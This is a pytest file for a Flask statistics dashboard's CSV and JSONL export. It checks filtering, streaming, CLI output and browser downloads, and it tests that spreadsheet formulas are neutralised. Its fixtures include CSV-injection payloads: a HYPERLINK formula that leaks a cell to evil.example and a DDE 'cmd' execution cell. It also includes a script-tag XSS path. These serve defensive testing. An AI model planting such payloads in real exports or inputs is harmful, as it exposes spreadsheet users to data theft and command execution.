"""Exporting the rows that match the dashboard's filters: /statistics/export.csv,
/statistics/export.jsonl and ``flask statistics export``, on every backend, and a
CSV downloaded through a real browser."""

from __future__ import annotations

import csv
import io
import json
import typing as t
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa
from dashboard_support import HTMX, NOON, QS, Page, insert, row, sample_rows
from flask import Response

from flask_statistics import export
from flask_statistics.cli import register

# Values a spreadsheet would run as formulas, and values that need CSV quoting.
FORMULAS = {
    "path": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "user_agent": "+cmd|' /C calc'!A0",
    "referrer": "-2+3",
    "browser": "@SUM(1+1)",
    "exception": "\tValueError()",
    "platform": "\rLinux",
}
AWKWARD_PATH = '/a,b "quoted"\nnext line;\u202e'


def formula_rows() -> list[dict[str, t.Any]]:
    return [
        row(date=NOON + timedelta(hours=2), status_code=404, response_time=-0.5, size=-1, **FORMULAS),
        row(date=NOON + timedelta(hours=3), status_code=500, path=AWKWARD_PATH, method="DELETE"),
    ]


@pytest.fixture
def exporting(make_app: t.Any) -> t.Any:
    """The default model (every optional column) with the sample rows, the formula
    rows and a row after the window."""
    app, *_ = make_app(model="default")
    register(app)
    insert(app, sample_rows() + formula_rows() + [row(date=datetime(2024, 5, 4, 8, 0), path="/later")])
    return app


def table_rows(app: t.Any) -> list[dict[str, t.Any]]:
    """Every row as the database returns it, oldest first, ties by index."""
    state = app.extensions["statistics"]
    table = state.table
    with app.app_context(), state.db.engine.connect() as conn:
        query = sa.select(table).order_by(table.c.date, table.c["index"])
        return [dict(r) for r in conn.execute(query).mappings()]


def expected(app: t.Any, *, status_class: int | None = None) -> list[dict[str, t.Any]]:
    """The rows of 1-3 May 2024 (UTC), optionally of one status class: the reference."""
    since, until = datetime(2024, 5, 1), datetime(2024, 5, 4)
    return [
        r for r in table_rows(app)
        if since <= r["date"] < until
        and (status_class is None or r["status_code"] // 100 == status_class)
    ]


def parse_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def parse_jsonl(body: bytes) -> list[dict[str, t.Any]]:
    text = body.decode("utf-8")
    assert text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


def iso(moment: datetime) -> str:
    return moment.isoformat(timespec="microseconds") + "Z"


def csv_text(value: t.Any) -> str:
    """What a cell holding the database value ``value`` reads as."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return iso(value)
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return str(value)


def assert_same_rows(found: list[dict[str, t.Any]], reference: list[dict[str, t.Any]], as_text: bool) -> None:
    assert [int(r["index"]) for r in found] == [r["index"] for r in reference]
    for got, want in zip(found, reference):
        assert set(got) == set(want)
        for name, value in want.items():
            if name == "response_time" and value is not None:
                # MariaDB keeps the seed's FLOAT in single precision; the export
                # reads it exactly, the reference query rounded to 6 digits.
                assert float(got[name]) == pytest.approx(value, rel=1e-6), name
            elif as_text:
                assert got[name] == csv_text(value), name
            elif isinstance(value, datetime):
                assert got[name] == iso(value), name
            else:
                assert got[name] == value, name


# ---------------------------------------------------------------------------------
# Over HTTP, every backend


def test_csv_export_has_every_column_and_exactly_the_filtered_rows(exporting: t.Any) -> None:
    response = exporting.test_client().get(f"/statistics/export.csv?{QS}&status=4xx")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="statistics-2024-05-01-to-2024-05-03.csv"'
    body = response.get_data()
    header = body.split(b"\r\n", 1)[0].decode()
    columns = [c.name for c in exporting.extensions["statistics"].table.columns]
    assert header.split(",") == columns  # every column of the model, in its order
    reference = expected(exporting, status_class=4)
    assert len(reference) == 4  # three sample 404s and the formula row
    assert_same_rows(parse_csv(body), reference, as_text=True)


def test_jsonl_export_keeps_types_and_nulls(exporting: t.Any) -> None:
    response = exporting.test_client().get(f"/statistics/export.jsonl?{QS}")
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    assert response.headers["Content-Disposition"] == 'attachment; filename="statistics-2024-05-01-to-2024-05-03.jsonl"'
    found = parse_jsonl(response.get_data())
    reference = expected(exporting)
    assert len(reference) == 14
    assert_same_rows(found, reference, as_text=False)
    awkward = next(r for r in found if r["method"] == "DELETE")
    assert awkward["path"] == AWKWARD_PATH and awkward["exception"] is None
    assert isinstance(awkward["status_code"], int) and isinstance(awkward["size"], int)


def test_csv_cells_that_could_run_as_formulas_are_neutralised(exporting: t.Any) -> None:
    body = exporting.test_client().get(f"/statistics/export.csv?{QS}").get_data()
    rows = parse_csv(body)
    hostile = next(r for r in rows if r["status_code"] == "404" and r["path"].startswith("'"))
    for name, value in FORMULAS.items():
        assert hostile[name] == "'" + value, name
    # Numbers stay numbers, negative ones included.
    assert float(hostile["response_time"]) == -0.5 and hostile["size"] == "-1"
    # Commas, quotes, line breaks and bidi controls survive the round trip.
    assert next(r for r in rows if r["method"] == "DELETE")["path"] == AWKWARD_PATH
    assert len(rows) == 14


def test_the_file_name_carries_the_default_range(exporting: t.Any) -> None:
    span = exporting.config["STATISTICS_DEFAULT_DATE_SPAN"]
    before = datetime.now(timezone.utc).date()
    response = exporting.test_client().get("/statistics/export.jsonl")
    after = datetime.now(timezone.utc).date()
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] in {
        # The default range is the span's days, today included.
        f'attachment; filename="statistics-{today - span + timedelta(days=1)}-to-{today}.jsonl"'
        for today in (before, after)
    }
    assert response.get_data() == b""  # no rows in the last week


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_bad_filters_are_a_400_with_the_messages(exporting: t.Any, fmt: str) -> None:
    response = exporting.test_client().get(f"/statistics/export.{fmt}?start=2024-13-01&status=99")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert "Content-Disposition" not in response.headers
    html = response.get_data(as_text=True)
    assert "Enter the start date as YYYY-MM-DD." in html
    assert "Enter a status code from 100 to 599, or a class such as 4xx." in html


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_a_refusing_guard_blocks_the_export(make_app: t.Any, fmt: str) -> None:
    app, *_ = make_app(guard=lambda: Response("keep out", status=403))
    insert(app, sample_rows())
    for headers in ({}, HTMX):
        response = app.test_client().get(f"/statistics/export.{fmt}?{QS}", headers=headers)
        assert response.status_code == 403
        assert response.get_data() == b"keep out"
        assert "Content-Disposition" not in response.headers
        assert response.headers["Cache-Control"] == "no-store"


def test_export_headers_keep_it_out_of_caches(exporting: t.Any) -> None:
    response = exporting.test_client().get(f"/statistics/export.csv?{QS}")
    response.close()
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"]


def test_formulas_are_neutralised_whatever_the_column_type() -> None:
    # SQLite keeps text in a column declared INTEGER; a custom type may hold anything.
    out = export.CsvEncoder(["n", "flag", "when", "other"], [sa.Integer(), sa.Boolean(), sa.DateTime(), sa.JSON()])
    body = out.header() + out.rows([("=1+1", True, datetime(2024, 5, 2, 12, 0), "-x"), (-3, None, None, 2.5)])
    assert parse_csv(body) == [
        {"n": "'=1+1", "flag": "true", "when": "2024-05-02T12:00:00.000000Z", "other": "'-x"},
        {"n": "-3", "flag": "", "when": "", "other": "2.5"},
    ]


def test_only_the_columns_the_model_has(make_app: t.Any) -> None:
    # The classic example's model: no is_bot, no route; plus a column of the app's own.
    app, *_ = make_app(model="seed", columns={"tenant": sa.Column(sa.String(20))})
    insert(app, [row(tenant="=acme")])
    body = app.test_client().get(f"/statistics/export.csv?{QS}").get_data()
    header = body.split(b"\r\n", 1)[0].decode().split(",")
    assert "is_bot" not in header and "route" not in header
    assert header[-1] == "tenant"
    assert parse_csv(body)[0]["tenant"] == "'=acme"


# ---------------------------------------------------------------------------------
# Streaming


def many_rows(count: int) -> list[dict[str, t.Any]]:
    return [row(date=NOON + timedelta(seconds=i), path=f"/item/{i}") for i in range(count)]


def test_export_is_streamed_in_batches_in_date_order(make_app: t.Any) -> None:
    app, *_ = make_app(model="default")
    count = export.BATCH_ROWS * 2 + 17
    # Inserted newest first, so the index order is the reverse of the date order.
    insert(app, list(reversed(many_rows(count))))
    response = app.test_client().get(f"/statistics/export.jsonl?{QS}", buffered=False)
    assert response.is_streamed
    chunks = list(response.response)
    response.close()
    assert len(chunks) == 3  # one chunk per batch of rows
    found = parse_jsonl(b"".join(chunks))
    assert [r["path"] for r in found] == [f"/item/{i}" for i in range(count)]


def test_a_client_leaving_mid_download_frees_the_connection(make_app: t.Any) -> None:
    app, *_ = make_app(model="default")
    insert(app, many_rows(export.BATCH_ROWS * 3))
    state = app.extensions["statistics"]
    with app.app_context():
        engine = state.db.engine
    response = app.test_client().get(f"/statistics/export.csv?{QS}", buffered=False)
    chunks = iter(response.response)
    assert next(chunks).startswith(b"index,")
    assert next(chunks)  # the first batch of rows
    assert engine.pool.checkedout() == 1  # the cursor is still open
    response.close()  # what the server does when the client goes away
    assert engine.pool.checkedout() == 0
    # The pool still works: the next export reads every row.
    again = app.test_client().get(f"/statistics/export.csv?{QS}")
    assert len(parse_csv(again.get_data())) == export.BATCH_ROWS * 3


def test_a_response_never_read_frees_the_connection(make_app: t.Any) -> None:
    app, *_ = make_app(model="default")
    insert(app, many_rows(10))
    with app.app_context():
        engine = app.extensions["statistics"].db.engine
    response = app.test_client().head(f"/statistics/export.csv?{QS}")
    assert response.status_code == 200
    response.close()  # the server is done with it without reading the body
    assert engine.pool.checkedout() == 0


# ---------------------------------------------------------------------------------
# flask statistics export


def run(app: t.Any, *args: str) -> t.Any:
    return app.test_cli_runner().invoke(args=["statistics", "export", *args])


def test_cli_writes_the_same_file_as_the_dashboard(exporting: t.Any, tmp_path: t.Any) -> None:
    for fmt in export.FORMATS:
        target = tmp_path / f"rows.{fmt}"
        result = run(exporting, "--format", fmt, "--start", "2024-05-01", "--end", "2024-05-03",
                     "--status", "4xx", "-o", str(target))
        assert result.exit_code == 0, result.output
        assert "Exported 4 rows from 2024-05-01 to 2024-05-03" in result.stderr
        web = exporting.test_client().get(f"/statistics/export.{fmt}?{QS}&status=4xx").get_data()
        assert target.read_bytes() == web
        assert not (tmp_path / f"rows.{fmt}.part").exists()


def test_cli_filters_by_path_method_and_route(exporting: t.Any) -> None:
    result = run(exporting, "--format", "jsonl", "--start", "2024-05-01", "--end", "2024-05-04",
                 "--path", "/sh", "--path-match", "prefix", "--method", "get", "-o", "-")
    assert result.exit_code == 0, result.output
    found = parse_jsonl(result.stdout_bytes)
    reference = [r for r in table_rows(exporting) if r["path"] == "/shop" and r["method"] == "GET"
                 and r["date"] >= datetime(2024, 5, 1)]
    assert [r["index"] for r in found] == [r["index"] for r in reference] and reference
    result = run(exporting, "--start", "2024-05-01", "--route", "/nothing/<id>", "--bots", "exclude", "-o", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.count(b"\r\n") == 1  # the header only


def test_cli_bad_filters_exit_2_with_the_dashboards_messages(exporting: t.Any, tmp_path: t.Any) -> None:
    target = tmp_path / "rows.csv"
    result = run(exporting, "--start", "2024-05-03", "--end", "2024-05-01", "--status", "7xx",
                 "--bots", "maybe", "-o", str(target))
    assert result.exit_code == 2
    assert "--end: The end date is before the start date." in result.stderr
    assert "--status: Enter a status code from 100 to 599, or a class such as 4xx." in result.stderr
    assert "--bots: Not a valid choice" in result.stderr
    assert not target.exists()
    result = run(exporting, "--start", "yesterday", "-o", "-")
    assert result.exit_code == 2 and "--start: Enter the start date as YYYY-MM-DD." in result.stderr


def test_cli_failing_database_exits_1_and_leaves_no_file(exporting: t.Any, tmp_path: t.Any) -> None:
    state = exporting.extensions["statistics"]
    with exporting.app_context():
        state.table.drop(state.db.engine)
    target = tmp_path / "rows.csv"
    result = run(exporting, "--start", "2024-05-01", "-o", str(target))
    assert result.exit_code == 1
    assert "could not read table" in result.stderr
    assert not target.exists() and not (tmp_path / "rows.csv.part").exists()


# ---------------------------------------------------------------------------------
# In a real browser (fixtures shared with test_browser.py: the seeded demo app under
# both policies, watched for CSP violations and requests to other hosts)

from test_browser import browser, session, session_factory, site, tally  # noqa: E402,F401


def download(session: t.Any, url: str) -> t.Any:
    """Navigate to an export URL and return Playwright's download of it."""
    from playwright.sync_api import Error

    with session.page.expect_download() as info:
        try:
            session.page.goto(url)
        except Error as error:  # a navigation that becomes a download is "aborted"
            assert "net::ERR_ABORTED" in str(error) or "Download is starting" in str(error), error
    return info.value


def test_csv_downloads_through_the_browser_and_parses(session: t.Any) -> None:
    site = session.site
    session.open(site.server.url + "/statistics/live")
    csv_file = download(session, site.server.url + "/statistics/export.csv")
    today = datetime.now(timezone.utc).date()
    span = site.app.config["STATISTICS_DEFAULT_DATE_SPAN"]
    assert csv_file.suggested_filename in {
        f"statistics-{day - span + timedelta(days=1)}-to-{day}.csv"
        for day in (today, today - timedelta(days=1))
    }
    rows = parse_csv(Path(csv_file.path()).read_bytes())
    assert len(rows) == site.total  # the seeded week lies within the default range
    assert {r["path"] for r in rows} >= {"/<script>alert(1)</script>", "/products"}
    assert all(r["date"].endswith("Z") for r in rows)
    assert [r["date"] for r in rows] == sorted(r["date"] for r in rows)

    # The current filters narrow the file too.
    jsonl_file = download(session, site.server.url + "/statistics/export.jsonl?status=404&method=GET")
    found = parse_jsonl(Path(jsonl_file.path()).read_bytes())
    assert len(found) == site.count(status_code=404, method="GET") > 0
    assert {(r["status_code"], r["method"]) for r in found} == {(404, "GET")}
    session.assert_clean()


def test_the_dashboards_export_links_carry_the_current_filters(make_app: t.Any) -> None:
    from flask import render_template

    from flask_statistics import panels
    from flask_statistics.forms import parse_filters

    app, *_ = make_app(model="default")
    insert(app, sample_rows())
    query = f"{QS}&status=4xx&path=/sh&path_match=prefix&sort=size&order=asc&page=2"
    with app.test_request_context(f"/statistics/?{query}"):
        from flask import request

        filters, _form = parse_filters(request.args, app.config)
        html = render_template("statistics/_actions.html", links=panels.Links(filters), filters=filters)
    links = {a["id"]: a["href"] for a in Page(html).links}
    assert links["live-link"] == "/statistics/live"
    client = app.test_client()
    for fmt in export.FORMATS:
        href = links[f"export-{fmt}"]
        assert href.startswith(f"/statistics/export.{fmt}?")
        # The filters, not the request log's order or page.
        assert "sort=" not in href and "page=" not in href and "order=" not in href
        body = client.get(href).get_data()
        found = parse_csv(body) if fmt == "csv" else parse_jsonl(body)
        assert [(r["path"], str(r["status_code"])) for r in found] == [("/shop", "404")] * 2
